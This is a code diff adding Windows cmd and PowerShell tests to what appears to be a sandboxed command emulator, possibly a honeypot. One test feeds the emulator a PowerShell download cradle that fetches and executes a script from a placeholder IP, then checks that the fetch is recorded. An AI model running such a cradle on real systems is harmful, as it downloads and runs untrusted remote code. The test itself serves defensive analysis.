@@ -151,9 +151,27 @@ def interpreters(validate):
         check(f'an endless loop in {language} ends', endless['stopped_by'] == 'blocks', endless['stopped_by'])
 
 
+def windows(validate):
+    """Evaluators of our own, on two kinds of Windows server, inside the jail."""
+    for language, code, shown in (('cmd', 'set /a 191*7& echo.& cmd /c echo %windir%', '1337'), ('powershell', "'{0}' -f (191*7)", '1337'),
+                                  ('cmd', 'powershell -nop -c "(1..3|%{$_*2}) -join 7"', '27476')):
+        _, answer, _ = emulate(code, language=language)
+        validate(answer)
+        check(f'{language} runs: {code[:20]}', len(answer['profiles']) > 1 and answer['stopped_by'] == 'exit' and
+              all(p['stdout'].startswith(shown) for p in answer['profiles']), answer)
+    _, cradle, _ = emulate("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", language='powershell')
+    check('a download cradle fetches', any(t['pattern'] == 'http://203.0.113.9/a' for t in cradle['traces'] if t['kind'] == 'fetch'), cradle)
+    _, told, _ = emulate('whoami', language='cmd')
+    check('what a server says of itself need not show', told['traces'] and not any(t['must_show'] for t in told['traces']), told['traces'])
+    for language, code in (('cmd', '@echo off\n:a\ngoto a\n'), ('powershell', 'while(1){}')):
+        _, endless, _ = emulate(code, language=language)
+        check(f'an endless loop in {language} ends', endless['stopped_by'] in ('blocks', 'rounds'), endless['stopped_by'])
+
+
 def main():
     validate = validator()
     interpreters(validate)
+    windows(validate)
     operators_profiles()
     code, said, _ = text('/bin/cat /etc/hostname')
     check("a program's words stand apart from its path", re.search(r'(?m)^  exec +/\S+  /bin/cat /etc/hostname$', said), said)
